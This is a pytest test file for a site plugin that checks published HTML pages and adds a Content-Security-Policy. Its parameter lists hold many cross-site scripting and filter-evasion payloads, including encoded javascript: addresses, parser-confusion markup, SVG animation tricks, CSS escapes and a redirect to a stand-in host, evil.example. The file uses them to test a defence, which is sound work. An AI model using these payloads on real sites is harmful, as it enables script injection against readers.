"""The pages' policy on its own, on the forms a browser reads as a script address however they are
written (character references, tabs and line breaks inside, control characters before), and on pages
of ordinary text that only look like them, which it publishes."""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from plugins.safety.page_policy import UnsafePage, check_and_protect


def _page(body: str) -> str:
    return f'<!doctype html>\n<html lang="en"><head><title>Page</title></head><body>{body}</body></html>'


ADDRESSES = [
    "javascript:alert(1)",
    "jav&#97;script:alert(1)",
    "&#106;avascript:alert(1)",
    " &#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1f JavaScript:alert(1)",
    "vb&#115;cript:msgbox(1)",
    "data&colon;text/html,<script>alert(1)</script>",
]
# Quoted both ways, and unquoted where the address has no space or tag, which would end the value.
WRITTEN = [(a, q) for a in ADDRESSES for q in ('"', "'", "") if q or not any(c in a for c in " \t\n<>")]


@pytest.mark.parametrize(("address", "quote"), WRITTEN)
def test_a_script_address_however_it_is_written_is_refused(address: str, quote: str):
    with pytest.raises(UnsafePage) as refused:
        check_and_protect(_page(f"<a href={quote}{address}{quote}>Home</a>"), "news/index.html")
    assert str(refused.value).startswith("news/index.html: an attribute holds a script address (")
    assert str(refused.value).endswith("), which would run script in every reader's browser.")


@pytest.mark.parametrize(
    "body",
    [
        "<p>The strategy will be refreshed in 2031.</p>",
        '<a href="/news/" title="Children&#39;s services &amp; SEND">What&#39;s new</a>',
        "<p>Say javascript then a colon, and nothing runs: javascript</p>",
        '<img src="picture.svg" alt="A tab&#9;in words">',
        # Words that look like CSS, in attributes that are words: the officer's text, as the payloads test writes it.
        '<a href="#" title="@import &quot;http://127.0.0.1/import&quot; and url(https://evil.example/x.png)">Home</a>',
    ],
)
def test_ordinary_text_that_looks_like_it_is_published_with_its_policy(body: str):
    protected = check_and_protect(_page(body), "news/index.html")
    assert protected.count('<meta http-equiv="Content-Security-Policy"') == 1
    assert body in protected


HANDLER = "an element has an event handler (onerror=)"
FETCHED = "the page would fetch https://evil.example/x.png from elsewhere"
# Pages a browser reads otherwise than a reading of their text would: each was published before the
# pages were read as the HTML standard reads them, and ran script or fetched from another site in Chromium.
READ_AS_A_BROWSER_READS = [
    ("<!--><img src=x onerror=alert(1)>-->", HANDLER),
    ("<!---><img src=x onerror=alert(1)>-->", HANDLER),
    ("<!-- x --!><img src=x onerror=alert(1)>-->", HANDLER),
    ("<![CDATA[ x ><img src=x onerror=alert(1)> ]]>", HANDLER),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", HANDLER),
    ("<style>a{}</style x><img src=x onerror=alert(1)></style>", HANDLER),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', HANDLER),
    ('<title>t</title><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', HANDLER),
    ("<a title==' onclick=alert(1) x='' id=t>Home</a>", "an element has an event handler (onclick=)"),
    ('<svg><a><animate attributeName=href values="x;jav&#x61;script:alert(1)" dur="1s"/><text>Home</text></a></svg>', "script address"),
    ("<svg><set attributeName=onclick to=alert(1) /></svg>", "an element has an event handler (onclick=)"),
    ('<script x:src="assets/javascripts/a.js" src="https://evil.example/x.js"></script>', "loads a script from https://evil.example/x.js"),
    (
        '<script title=\'src="assets/javascripts/a.js"\' src="https://evil.example/x.js"></script>',
        "loads a script from https://evil.example/x.js",
    ),
    ('<script x:type="application/json">alert(1)</script>', "an inline script the theme did not write"),
    ('<script title="type=application/json">alert(1)</script>', "an inline script the theme did not write"),
    ('<svg><script href="https://evil.example/x.js"></script></svg>', "loads a script from https://evil.example/x.js"),
    (
        '<script>window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))</script>',
        "an inline script the theme did not write",
    ),
    ('<img src="a.png" srcset="https://evil.example/x.png 2x">', FETCHED),
    ('<video src="a.mp4" poster="https://evil.example/x.png"></video>', FETCHED),
    ('<img src="&#47;/evil.example/x.png">', "the page would fetch //evil.example/x.png"),
    ('<img src="https&colon;//evil.example/x.png">', FETCHED),
    ('<img src="/\t/evil.example/x.png">', "the page would fetch //evil.example/x.png"),
    ('<img src="\x01//evil.example/x.png">', "the page would fetch //evil.example/x.png"),
    ('<link title="rel=canonical" rel=stylesheet href="https://evil.example/x.css">', "the page would fetch https://evil.example/x.css"),
    ('<div style="background:url(https://evil.example/x.png)">x</div>', FETCHED),
    ("<style>@import url(https://evil.example/x.css);</style>", "the page would fetch https://evil.example/x.css"),
    ("<style>a{background:\\75 rl(https://evil.example/x.png)}</style>", FETCHED),
    ('<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>', FETCHED),
    ('<a href="data: text/html,<script>alert(1)</script>">Home</a>', "script address (data: text/"),
    ('<template shadowrootmode="open"><img src=x onerror=alert(1)></template>', "the page has a <template> element"),
]


@pytest.mark.parametrize(("body", "said"), READ_AS_A_BROWSER_READS)
def test_a_page_is_checked_as_a_browser_reads_it(body: str, said: str):
    with pytest.raises(UnsafePage) as refused:
        check_and_protect(_page(body), "news/index.html")
    assert str(refused.value).startswith("news/index.html: ")
    assert said in str(refused.value)


def test_a_noscript_message_is_published_and_checked_as_a_browser_without_script_reads_it():
    message = '<noscript><p>Search needs JavaScript. Without it, find a strategy from the <a href="..">list</a>.</p></noscript>'
    assert message in check_and_protect(_page(message), "search/index.html")
    with pytest.raises(UnsafePage, match="the page would fetch https://evil.example/x.png"):
        check_and_protect(_page('<noscript><img src="https://evil.example/x.png"></noscript>'), "search/index.html")


# Found by reading each page as Chromium does: fetches from another site in attributes and styles
# that were never looked at, a script outside assets/javascripts/ by a path a browser reads otherwise,
# text of an SVG script the browser does not run, and the theme's analytics script, which loads Google's.
MORE_READ_AS_A_BROWSER_READS = [
    (
        '<svg width=50 height=50><rect width=50 height=50 mask="url(https://evil.example/m.svg#m)"/></svg>',
        "fetch https://evil.example/m.svg#m",
    ),
    ('<svg><rect fill="url(https://evil.example/p.svg#p)"/></svg>', "fetch https://evil.example/p.svg#p"),
    ('<svg><rect cursor="url(https://evil.example/c.png), auto"/></svg>', "fetch https://evil.example/c.png"),
    ('<svg><rect fill="\\75 rl(https://evil.example/p.svg#p)"/></svg>', "fetch https://evil.example/p.svg#p"),
    ('<style>a{content:"/*"}body{background:url(https://evil.example/x.png)}a{content:"*/"}</style>', FETCHED),
    ('<div style=\'content:"/*";background:url(https://evil.example/x.png);content:"*/"\'>x</div>', FETCHED),
    ('<style>a{content:"\n}body{background:url(https://evil.example/x.png)}a{content:"}</style>', FETCHED),
    ('<style>body{background:url(x "y) ;background:url(https://evil.example/x.png);} a{content:"}</style>', FETCHED),
    ("<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>", "fetch https://evil.example/x.woff"),
    ('<script src="assets/javascripts/a.js" attributionsrc="https://evil.example/x.png"></script>', FETCHED),
    ('<svg><rect><set attributeName="mask" to="\\75 rl(//evil.example/m.svg#m)"/></rect></svg>', "fetch //evil.example/m.svg#m"),
    (
        '<svg><rect><animate attributeName="cursor" values="auto;\\75 rl(//evil.example/c.png), auto" dur="1s"/></rect></svg>',
        "fetch //evil.example/c.png",
    ),
    ('<style>@import "\\\\\\\\evil.example/x.css";</style>', "fetch \\\\evil.example/x.css"),
    ('<style>@import "/\\\\evil.example/x.css";</style>', "fetch /\\evil.example/x.css"),
    ("<style>div{background-image:-webkit-image-set('\\5c\\5c evil.example/x.png' 1x)}</style>", "fetch \\\\evil.example/x.png"),
    # The Kelvin sign (U+212A), which Python but not a browser lowers to k: a decoy beside the real attribute.
    (
        '<svg><script xlink:href="https://evil.example/x.js" xlin\u212a:href="assets/javascripts/a.js"></script></svg>',
        "loads a script from https://evil.example/x.js",
    ),
    ('<svg><a xlink:href="javascript:alert(1)" xlin\u212a:href="news/"><text>Home</text></a></svg>', "script address (javascript:)"),
    ('<table background="https://evil.example/x.png" bac\u212aground="a.png"><tr><td>x</td></tr></table>', FETCHED),
    ("<div style='background-image:image-set(\"https://evil.example/x.png\" 1x)'>x</div>", FETCHED),
    ('<style>body{background-image:-webkit-image-set("https://evil.example/x.png" 1x)}</style>', FETCHED),
    ('<style>@import"https://evil.example/x.css";</style>', "fetch https://evil.example/x.css"),
    ('<style>@import/**/"https://evil.example/x.css";</style>', "fetch https://evil.example/x.css"),
    ('<svg><image href="a.png"><set attributeName="href" to="https://evil.example/x.png"/></image></svg>', FETCHED),
    ('<svg><image href="a.png"><animate attributeName="href" values="a.png;https://evil.example/x.png" dur="1s"/></image></svg>', FETCHED),
    ('<svg><linearGradient id="g" href="https://evil.example/x.svg#g"/></svg>', "fetch https://evil.example/x.svg#g"),
    ('<img src="a.png" attributionsrc="https://evil.example/x.png">', FETCHED),
    ('<script src="assets/javascripts/%2e%2e/%2e%2e/other/x.js"></script>', "which is not in assets/javascripts/"),
    ('<script src="assets/javascripts/..\\..\\other\\x.js"></script>', "which is not in assets/javascripts/"),
    ('<svg><script>__md_scope=new URL(<a>"</a>alert(1)||location),(1<a>"</a>,location)</script></svg>', "a <script> holds other elements"),
    ("<svg><style>a{}<a>x</a></style></svg>", "a <style> holds other elements"),
    (
        '<script>"undefined"!=typeof __md_analytics&&__md_analytics()</script>',
        "an inline script the theme did not write",
    ),
]


@pytest.mark.parametrize(("body", "said"), MORE_READ_AS_A_BROWSER_READS)
def test_more_of_a_page_is_checked_as_a_browser_reads_it(body: str, said: str):
    with pytest.raises(UnsafePage) as refused:
        check_and_protect(_page(body), "news/index.html")
    assert said in str(refused.value)


BEGINNINGS = [
    "<!doctype html><html lang=en><head title='x>'><title>t</title></head><body>x</body></html>",
    "<!doctype html><html lang='en><head>'><head><title>t</title></head><body>x</body></html>",
    '\u00a0<!doctype html><html lang="en"><head><title>t</title></head><body>x</body></html>',
    '<!doctype html><html lang="en">\x0b<head><title>t</title></head><body>x</body></html>',
    '<!doctype html><html lang="en"><head-x><title>t</title></head-x><body>x</body></html>',
    "<!doctype html><html-x><head><title>t</title></head><body>x</body></html>",
]


@pytest.mark.parametrize("page", BEGINNINGS)
def test_a_page_whose_policy_a_browser_would_not_read_in_its_head_is_refused(page: str):
    # Each would have put the policy where Chromium ignores it: inside an attribute, or in <body>.
    with pytest.raises(UnsafePage, match="the page does not begin <!doctype html><html><head>"):
        check_and_protect(page, "news/index.html")


def test_the_policy_is_the_first_thing_a_browser_reads_in_the_head():
    page = (
        '<!doctype html>\n<html lang="en" class="no-js">\n  <head>\n    <meta charset="utf-8"><title>t</title></head><body>x</body></html>'
    )
    head = LexborHTMLParser(check_and_protect(page, "news/index.html")).head
    assert head is not None
    first = next(child for child in head.iter() if child.tag != "-text")
    assert first.tag == "meta" and first.attributes["http-equiv"] == "Content-Security-Policy"
    assert first.attributes["content"].startswith("default-src 'self'; script-src 'self'")
